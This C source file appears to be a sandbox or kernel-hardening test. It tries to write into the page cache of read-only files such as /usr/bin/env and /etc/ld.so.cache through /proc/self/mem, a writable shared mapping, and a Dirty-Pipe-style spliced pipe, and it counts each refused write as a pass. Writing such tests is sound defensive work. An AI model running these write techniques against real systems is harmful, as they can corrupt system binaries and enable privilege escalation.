// ends: exited 0
// Changes pages of read-only files in the page cache, where the next run would see them: through
// /proc/self/mem, a private mapping made writable, and a spliced pipe. SPDX-License-Identifier: MIT
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attack.h"
static void attack_file(const char* path) {
    char before[64], after[64];
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (pread(fd, before, sizeof before, 0) != sizeof before) return;
    char* const page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (page != MAP_FAILED) {
        const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
        if (memory >= 0 && pwrite(memory, "DIRT", 4, (off_t)(uintptr_t)page) == 4)
            puts("a copy was written");
        refused("make a shared mapping writable", mprotect(page, 4096, PROT_READ | PROT_WRITE));
        refused("punch a hole", madvise(page, 4096, MADV_REMOVE));
    }
    int ends[2];
    if (pipe(ends) == 0) {
        off_t from = 0;
        static char fill[65536];
        for (int i = 0; i < 16; i++)  // all buffers of the pipe have been used for writing once
            if (write(ends[1], fill, 4096) != 4096 || read(ends[0], fill, 4096) != 4096) break;
        if (splice(fd, &from, ends[1], NULL, 1, 0) == 1 && write(ends[1], "DIRT", 4) == 4)
            puts("a pipe was written");
    }
    if (pread(fd, after, sizeof after, 0) != sizeof after || memcmp(before, after, 64) != 0)
        breach(path);
}
int main(void) {
    attack_file("/proc/self/exe");
    attack_file("/usr/bin/env");
    attack_file("/etc/ld.so.cache");
    attack_file("/proc/self/fd/0");
    return held();
}
